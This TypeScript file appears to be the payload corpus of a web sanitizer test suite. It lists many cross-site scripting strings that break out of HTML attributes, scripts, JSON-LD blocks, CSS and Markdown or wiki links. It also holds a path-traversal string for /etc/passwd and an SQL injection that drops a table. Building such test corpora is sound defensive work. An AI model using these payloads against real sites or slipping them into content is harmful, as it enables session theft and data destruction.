import { category } from './payload';
import { EXTENSIONS, JSON_IN_HTML, MARKDOWN, OWASP, own, POLYGLOTS, PORTSWIGGER } from './sources';

/** Text that ends the attribute, element or string into which it was put. */
export const ATTRIBUTE_BREAKING = category('attribute-breaking', [
  [
    OWASP,
    {
      'double-quote': '"><img src=x: onerror={{CALL}}>',
      'single-quote': `'><img src=x: onerror={{CALL}}>`,
      'no-quote': '><img src=x: onerror={{CALL}}>',
      'double-quote-handler': '" onmouseover={{CALL}} autofocus onfocus={{CALL}} x="',
      'single-quote-handler': `' onmouseover={{CALL}} autofocus onfocus={{CALL}} x='`,
      'space-handler': 'x autofocus onfocus={{CALL}} onclick={{CALL}}',
      'backslash-quote': '\\";{{CALL}};//',
      backtick: '`><img src=x: onerror={{CALL}}>',
      'ends-script': '</script><img src=x: onerror={{CALL}}>',
      'ends-style': '</style><img src=x: onerror={{CALL}}>',
      'ends-title': '</title><img src=x: onerror={{CALL}}>',
      'ends-textarea': '</textarea><img src=x: onerror={{CALL}}>',
      'ends-comment': '--><img src=x: onerror={{CALL}}><!--',
      'ends-cdata': ']]><img src=x: onerror={{CALL}}>',
      'quote-entity': '&quot;&gt;&lt;img src=x: onerror={{CALL}}&gt;',
    },
  ],
  [
    PORTSWIGGER,
    {
      'js-single': `';{{CALL}};'`,
      'js-minus': `'-{{CALL}}-'`,
      'js-double-minus': '"-{{CALL}}-"',
      'js-template': '$\u007b{{CALL}}}',
      'js-line-end': '\n{{CALL}}\n//',
      'js-comment-end': '*/{{CALL}}/*',
      'js-line-separator': '\u2028{{CALL}}\u2029',
      'js-html-comment': '<!--\n{{CALL}}//-->',
      'angular-expression': '{{constructor.constructor("{{UNICODE:{{CALL}}}}")()}}',
      'vue-expression': `{{_c.constructor("{{UNICODE:{{CALL}}}}")()}}`,
      'css-string': `'}*{background:url({{URL}})}`,
      'css-url': `);background:url({{URL}});x:url(`,
      'css-comment': '*/}*{background:url({{URL}})}/*',
      'css-style-attribute': '";background:url({{URL}});x:"',
      'header-lines': 'x\r\nContent-Type: text/html\r\n\r\n<script>{{CALL}}</script>',
    },
  ],
  [
    own(EXTENSIONS),
    {
      'alt-breaking': '<img src="data:," alt="&quot;><img src=x: onerror={{CALL}}>">',
      'caption-breaking':
        '<figure><img src="data:,"><figcaption>"&gt;&lt;img src=x: onerror={{CALL}}&gt;</figcaption></figure>',
      'label-breaking':
        '<p aria-label="&quot;><svg onload={{CALL}}>" title="&lt;/title&gt;&lt;img src=x: onerror={{CALL}}&gt;">a</p>',
      'summary-breaking':
        '<details><summary>&lt;/summary&gt;&lt;img src=x: onerror={{CALL}}&gt;</summary>a</details>',
      'code-breaking': '<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;img src=x: onerror={{CALL}}&gt;</code></pre>',
      'code-language': "<pre><code class='language-\"><img src=x: onerror={{CALL}}>'>let a = 1;</code></pre>",
      'lang-breaking': '<p lang=\'en"><img src=x: onerror={{CALL}}>\' dir="rtl&quot; onclick={{CALL}}">a</p>',
      'id-breaking': `<h2 id='x"><img src=x: onerror={{CALL}}>'>A heading</h2><a href='#x"><img src=x: onerror={{CALL}}>'>to it</a>`,
      'datetime-breaking': `<time datetime='2026-01-01"><img src=x: onerror={{CALL}}>'>a day</time>`,
      'table-scope-breaking': `<table><tr><th scope='col"><img src=x: onerror={{CALL}}>' headers='"><svg onload={{CALL}}>'>a</th></tr></table>`,
      'size-breaking': `<img src="data:," width='1"><img src=x: onerror={{CALL}}>' height='1;background:url({{URL}})'>`,
      'link-text-breaking':
        '<a href="https://example.org/&quot;><img src=x: onerror={{CALL}}>">&quot;&gt;&lt;svg onload={{CALL}}&gt;</a>',
      'footnote-breaking': `<sup><a href='#fn"><img src=x: onerror={{CALL}}>' id='r"'>1</a></sup><li id='fn"><img src=x: onerror={{CALL}}>'>&lt;img src=x: onerror={{CALL}}&gt;</li>`,
      'abbr-breaking': `<abbr title='"><img src=x: onerror={{CALL}}>'>HTML</abbr><dfn title="<script>{{CALL}}</script>">b</dfn>`,
    },
  ],
]);

/** JSON in a page that ends early, or is more than data. */
export const JSON_LD = category('json-ld', [
  [
    JSON_IN_HTML,
    {
      'script-end':
        '<script type="application/ld+json">{"@type":"Article","headline":"</script><img src=x: onerror={{CALL}}>"}</script>',
      'comment-open':
        '<script type="application/ld+json">{"headline":"<!--<script>"}</script><img src=x: onerror={{CALL}}></script>',
      'escaped-markup':
        '<script type="application/ld+json">{"@type":"Article","headline":"\\u003cimg src=x: onerror={{CALL}}\\u003e"}</script>',
      cdata:
        '<script type="application/ld+json">//<![CDATA[\n{"@type":"Article","headline":"<img src=x: onerror={{CALL}}>"}\n//]]></script>',
      'line-separators': '<script type="application/ld+json">{"headline":"a\u2028{{CALL}}\u2029"}</script>',
      'type-lie': '<script type="application/ld+json" src="{{URL}}">{{CALL}}</script>',
      'type-with-parameter': '<script type="application/ld+json;x=text/javascript">{{CALL}}</script>',
    },
  ],
  [
    own(JSON_IN_HTML),
    {
      'author-markup':
        '<script type="application/ld+json">{"@type":"NewsArticle","author":{"name":"<svg onload={{CALL}}>","url":"javascript:{{CALL}}"}}</script>',
      'image-javascript':
        '<script type="application/ld+json">{"@type":"Article","image":"javascript:{{CALL}}","thumbnailUrl":"data:text/html,x"}</script>',
      'url-javascript':
        '<script type="application/ld+json">{"@type":"Article","url":"javascript:{{CALL}}","mainEntityOfPage":"javascript:{{CALL}}"}</script>',
      'article-body':
        '<script type="application/ld+json">{"@type":"Article","articleBody":"<p>a</p><img src=x: onerror={{CALL}}><script>{{CALL}}<\\/script>"}</script>',
      'deep-json': `<script type="application/ld+json">${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}</script><img src=x: onerror={{CALL}}>`,
      'odd-types':
        '<script type="application/ld+json">{"@type":["Article",null,{}],"headline":{"toString":"{{CALL}}"},"author":[[[]]],"datePublished":{}}</script>',
      'graph-loop':
        '<script type="application/ld+json">{"@graph":[{"@id":"a","author":{"@id":"a"},"publisher":{"@id":"a"}}],"name":"<b onclick={{CALL}}>"}</script>',
      'publisher-logo':
        '<script type="application/ld+json">{"@type":"Article","publisher":{"name":"</title><img src=x: onerror={{CALL}}>","logo":{"url":"{{URL}}"}}}</script>',
      'section-markup':
        '<script type="application/ld+json">{"@type":"Article","articleSection":["<img src=x: onerror={{CALL}}>"],"keywords":"\\"><script>{{CALL}}<\\/script>"}</script>',
      'dates-markup':
        '<script type="application/ld+json">{"@type":"Article","datePublished":"2026-01-01\\"><img src=x: onerror={{CALL}}>","dateModified":"javascript:{{CALL}}"}</script>',
      'video-embed':
        '<script type="application/ld+json">{"@type":"VideoObject","embedUrl":"javascript:{{CALL}}","contentUrl":"{{URL}}"}</script>',
      microdata:
        '<div itemscope itemtype="https://schema.org/Article"><meta itemprop=headline content="<img src=x: onerror={{CALL}}>"><a itemprop=url href="javascript:{{CALL}}">a</a></div>',
    },
  ],
]);

/** One text for many places. */
export const POLYGLOT = category('polyglots', [
  [
    POLYGLOTS,
    {
      'all-contexts':
        'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */{{CALL}} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={{CALL}}//>',
      'quotes-and-ends': `'"--></style></script></title></textarea><svg onload={{CALL}}>`,
      'attribute-or-script': `javascript:{{CALL}}//" onfocus={{CALL}} autofocus x='></script><svg onload={{CALL}}>`,
      'html-or-url': '//"><img src=x: onerror={{CALL}}>//javascript:{{CALL}}',
      'json-or-html': '{"a":"</script><svg onload={{CALL}}>","b":"javascript:{{CALL}}"}',
      'markdown-or-html': '[a](javascript:{{CALL}}"onmouseover={{CALL}} x=") <svg onload={{CALL}}>',
      'svg-or-html': '<svg><p><style></svg><img src=x: onerror={{CALL}}></style></p></svg>',
      'css-or-html': `*{background:url({{URL}})}</style><img src=x: onerror={{CALL}}>`,
      'template-or-html': '$\u007b{{CALL}}}{{=1}}<%=1%>#{1}<img src=x: onerror={{CALL}}>',
      'tex-or-html': '$\\href{javascript:{{CALL}}}{a}$<img src=x: onerror={{CALL}}>',
      'gif-and-script': 'GIF89a/*<svg onload={{CALL}}>*/={{CALL}}//',
      'path-or-html': '../../../etc/passwd%00<img src=x: onerror={{CALL}}>',
      'sql-or-html': `' OR 1=1 -- <img src=x: onerror={{CALL}}>; DROP TABLE articles; "*" NEAR(a b)`,
      'search-operators': 'tag:"><img src=x: onerror={{CALL}}> site:javascript: "unclosed (a OR',
    },
  ],
]);

/** Marks that a writer of Markdown, wiki text or a terminal would turn into more. */
export const MARKUP_LIKE = category('markup-like', [
  [
    MARKDOWN,
    {
      link: '[a link](javascript:{{CALL}})',
      'link-title': '[a](https://example.org "onclick={{CALL}}")',
      'link-entities': '[a](&#106;avascript&colon;{{CALL}})',
      'link-newline': '[a](java\nscript:{{CALL}})',
      'link-angle': '[a](<javascript:{{CALL}}>)',
      image: '![a]({{URL}})',
      'image-breaking': `![a"onerror={{CALL}} x="](x:)`,
      'image-source-breaking': '![a](x:"onerror="{{CALL}})',
      'reference-link': '[a][1]\n\n[1]: javascript:{{CALL}}',
      autolink: '<javascript:{{CALL}}>',
      'autolink-data': '<data:text/html,{{CALL}}>',
      'raw-html': 'text **bold <img src=x: onerror={{CALL}}>** text',
      'code-fence': '```html"><img src=x: onerror={{CALL}}>\ncode\n```',
      'code-fence-in-code': '<pre><code>```\n&lt;img src=x: onerror={{CALL}}&gt;\n```</code></pre>',
      'table-pipes': '|a|<img src=x: onerror={{CALL}}>|\n|-|-|\n|b|c|',
      footnote: '[^1]: <svg onload={{CALL}}>',
      'front-matter': '---\ntitle: "<img src=x: onerror={{CALL}}>"\n---',
      'wiki-link': '[[File:x.png|link=javascript:{{CALL}}]] [javascript:{{CALL}} a]',
      bbcode: '[url=javascript:{{CALL}}]a[/url][img]x" onerror="{{CALL}}[/img]',
      'rst-link': '`a <javascript:{{CALL}}>`_ .. raw:: html <svg onload={{CALL}}>',
      'terminal-escape': '\u001b]8;;javascript:{{CALL}}\u0007a\u001b]8;;\u0007',
    },
  ],
]);
